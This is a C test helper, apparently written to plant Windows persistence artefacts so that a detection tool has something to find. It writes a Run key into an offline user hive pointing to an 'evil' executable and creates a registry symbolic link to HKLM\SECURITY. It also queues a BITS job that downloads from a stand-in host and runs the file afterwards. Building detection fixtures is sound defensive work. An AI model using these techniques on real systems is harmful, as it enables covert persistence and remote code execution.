/* Usage: plugin_plant PROFILE [STAY]. Makes what a test wants to find and no tool of Wine makes: a
 * hive of a user who is not logged in, in PROFILE\NTUSER.DAT, and a link of the registry,
 * HKLM\SOFTWARE\CordonLink, to HKLM\SECURITY, and a job of BITS, or with `-` for PROFILE nothing of
 * that; with STAY also a socket that listens, and a process that stays until its input ends: it
 * prints the port, its number and its start, and each line that it is given. With HELD for STAY it
 * holds its own program open meanwhile, so that nobody else can open it. `plugin_plant - above FILE
 * PROGRAM ...` starts the program and waits for its end, with another child that sleeps meanwhile;
 * FILE gets a line for itself and for that child: number and start. */
#define COBJMACROS
#include <stdio.h>
#include <string.h>

#include <winsock2.h>

#include <windows.h>

#include <initguid.h>

#include <bits.h>
#include <bits1_5.h>

static int enable(const wchar_t *name)
{
  HANDLE token = NULL;
  TOKEN_PRIVILEGES p = {.PrivilegeCount = 1};
  if (!OpenProcessToken(GetCurrentProcess(), TOKEN_ADJUST_PRIVILEGES | TOKEN_QUERY, &token))
    return 0;
  p.Privileges[0].Attributes = SE_PRIVILEGE_ENABLED;
  int good = LookupPrivilegeValueW(NULL, name, &p.Privileges[0].Luid) &&
             AdjustTokenPrivileges(token, FALSE, &p, 0, NULL, NULL);
  (void)CloseHandle(token);
  return good;
}

static int plant_hive(const wchar_t *profile)
{
  static const wchar_t command[] = L"C:\\evil\\logged_off.exe -hidden";
  wchar_t path[MAX_PATH];
  HKEY key = NULL;
  HKEY run = NULL;
  if (!enable(L"SeBackupPrivilege"))
    return 1;
  (void)RegDeleteTreeW(HKEY_CURRENT_USER, L"CordonPlanted");
  if (RegCreateKeyExW(HKEY_CURRENT_USER, L"CordonPlanted", 0, NULL, 0, KEY_ALL_ACCESS, NULL, &key,
                      NULL) != 0 ||
      RegCreateKeyExW(key, L"SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run", 0, NULL, 0,
                      KEY_ALL_ACCESS, NULL, &run, NULL) != 0)
    return 1;
  LSTATUS status =
      RegSetValueExW(run, L"LoggedOff", 0, REG_SZ, (const BYTE *)command, sizeof(command));
  (void)swprintf(path, MAX_PATH, L"%ls\\NTUSER.DAT", profile);
  (void)DeleteFileW(path);
  if (status == 0)
    status = RegSaveKeyExW(key, path, NULL, REG_LATEST_FORMAT);
  (void)RegCloseKey(run);
  (void)RegCloseKey(key);
  (void)RegDeleteTreeW(HKEY_CURRENT_USER, L"CordonPlanted");
  if (status != 0)
    (void)fprintf(stderr, "the hive was not saved: error %ld\n", (long)status);
  return status != 0;
}

static int plant_link(void)
{
  static const wchar_t to[] = L"\\Registry\\Machine\\SECURITY";
  HKEY key = NULL;
  LSTATUS status = RegCreateKeyExW(HKEY_LOCAL_MACHINE, L"SOFTWARE\\CordonLink", 0, NULL,
                                   REG_OPTION_CREATE_LINK | REG_OPTION_VOLATILE, KEY_ALL_ACCESS,
                                   NULL, &key, NULL);
  if (status == 0)
    status = RegSetValueExW(key, L"SymbolicLinkValue", 0, REG_LINK, (const BYTE *)to,
                            sizeof(to) - sizeof(wchar_t));
  if (key != NULL)
    (void)RegCloseKey(key);
  if (status != 0)
    (void)fprintf(stderr, "the link was not made: error %ld\n", (long)status);
  return status != 0;
}

static unsigned long long start_of(HANDLE process)
{
  FILETIME start = {0};
  FILETIME other[3];
  (void)GetProcessTimes(process, &start, &other[0], &other[1], &other[2]);
  return (unsigned long long)start.dwHighDateTime << 32 | start.dwLowDateTime;
}

static int listen_and_stay(void)
{
  WSADATA data;
  struct sockaddr_in at = {.sin_family = AF_INET};
  int len = sizeof(at);
  char line[16];
  (void)WSAStartup(MAKEWORD(2, 2), &data);
  SOCKET s = socket(AF_INET, SOCK_STREAM, 0);
  at.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (s == INVALID_SOCKET || bind(s, (struct sockaddr *)&at, sizeof(at)) != 0 ||
      listen(s, 1) != 0 || getsockname(s, (struct sockaddr *)&at, &len) != 0)
    return 1;
  (void)printf("%u %lu %llu\n", ntohs(at.sin_port), (unsigned long)GetCurrentProcessId(),
               start_of(GetCurrentProcess()));
  (void)fflush(stdout);
  /* A line for each: whoever was suspended gives none. */
  while (fgets(line, sizeof(line), stdin) != NULL) {
    (void)printf("%s", line);
    (void)fflush(stdout);
  }
  return 0;
}

/* Until this process ends. */
static int hold_oneself(void)
{
  wchar_t path[MAX_PATH];
  DWORD len = GetModuleFileNameW(NULL, path, MAX_PATH);
  HANDLE h = CreateFileW(path, GENERIC_READ, 0, NULL, OPEN_EXISTING, 0, NULL);
  if (len == 0 || h == INVALID_HANDLE_VALUE)
    (void)fprintf(stderr, "it could not be held: error %lu\n", (unsigned long)GetLastError());
  return len > 0 && h != INVALID_HANDLE_VALUE;
}

static int start(wchar_t *command, int gets_all, PROCESS_INFORMATION *made)
{
  STARTUPINFOW how = {.cb = sizeof(how)};
  if (CreateProcessW(NULL, command, NULL, NULL, gets_all, 0, NULL, NULL, &how, made))
    return 1;
  (void)fprintf(stderr, "'%ls' was not started: error %lu\n", command, GetLastError());
  return 0;
}

static int stay_above(const wchar_t *file, const wchar_t *program)
{
  wchar_t command[8192];
  wchar_t sleeper[MAX_PATH + 16];
  wchar_t self[MAX_PATH];
  PROCESS_INFORMATION below = {0};
  PROCESS_INFORMATION beside = {0};
  if (GetModuleFileNameW(NULL, self, MAX_PATH) == 0)
    return 1;
  (void)swprintf(sleeper, MAX_PATH + 16, L"\"%ls\" - sleep", self);
  (void)swprintf(command, 8192, L"%ls", program);
  FILE *said = _wfopen(file, L"w");
  if (said == NULL || !start(sleeper, FALSE, &beside))
    return 1;
  (void)fprintf(said, "%lu %llu\n%lu %llu\n", (unsigned long)GetCurrentProcessId(),
                start_of(GetCurrentProcess()), (unsigned long)beside.dwProcessId,
                start_of(beside.hProcess));
  (void)fclose(said);
  int good = start(command, TRUE, &below);
  if (good)
    (void)WaitForSingleObject(below.hProcess, INFINITE);
  (void)TerminateProcess(beside.hProcess, 0);
  return !good;
}

/* A job of BITS that has yet to begin, with something to run at its end. How that went is for
 * whoever looks: not every system takes the second. */
static void plant_job(void)
{
  IBackgroundCopyManager *manager = NULL;
  IBackgroundCopyJob *job = NULL;
  IBackgroundCopyJob2 *more = NULL;
  GUID id;
  HRESULT com = CoInitializeEx(NULL, COINIT_MULTITHREADED);
  HRESULT hr = CoCreateInstance(&CLSID_BackgroundCopyManager, NULL, CLSCTX_LOCAL_SERVER,
                                &IID_IBackgroundCopyManager, (void **)&manager);
  if (SUCCEEDED(hr))
    hr = IBackgroundCopyManager_CreateJob(manager, L"Evil update", BG_JOB_TYPE_DOWNLOAD, &id, &job);
  if (SUCCEEDED(hr))
    hr = IBackgroundCopyJob_AddFile(job, L"http://planted.example/evil.exe",
                                    L"C:\\evil\\fetched.exe");
  (void)fprintf(stderr, "the job: 0x%lx\n", (unsigned long)hr);
  if (SUCCEEDED(hr))
    hr = IBackgroundCopyJob_QueryInterface(job, &IID_IBackgroundCopyJob2, (void **)&more);
  if (SUCCEEDED(hr))
    hr = IBackgroundCopyJob2_SetNotifyCmdLine(more, L"C:\\evil\\fetched.exe", L"fetched.exe -q");
  (void)fprintf(stderr, "what it runs: 0x%lx\n", (unsigned long)hr);
  if (more != NULL)
    (void)IBackgroundCopyJob2_Release(more);
  if (job != NULL)
    (void)IBackgroundCopyJob_Release(job);
  if (manager != NULL)
    (void)IBackgroundCopyManager_Release(manager);
  if (SUCCEEDED(com))
    CoUninitialize();
}

/* What the C library calls with texts in UTF-16. */
int wmain(int argc, wchar_t **argv);

int wmain(int argc, wchar_t **argv)
{
  if (argc < 2)
    return 2;
  if (argc > 4 && wcscmp(argv[2], L"above") == 0)
    return stay_above(argv[3], wcsstr(GetCommandLineW(), argv[4]));
  if (argc > 2 && wcscmp(argv[2], L"sleep") == 0) {
    Sleep(120000);
    return 0;
  }
  if (argc > 2 && wcscmp(argv[2], L"held") == 0 && !hold_oneself())
    return 1;
  int failed = wcscmp(argv[1], L"-") != 0 && (plant_hive(argv[1]) || plant_link());
  if (wcscmp(argv[1], L"-") != 0)
    plant_job();
  return failed || argc < 3 ? failed : listen_and_stay();
}
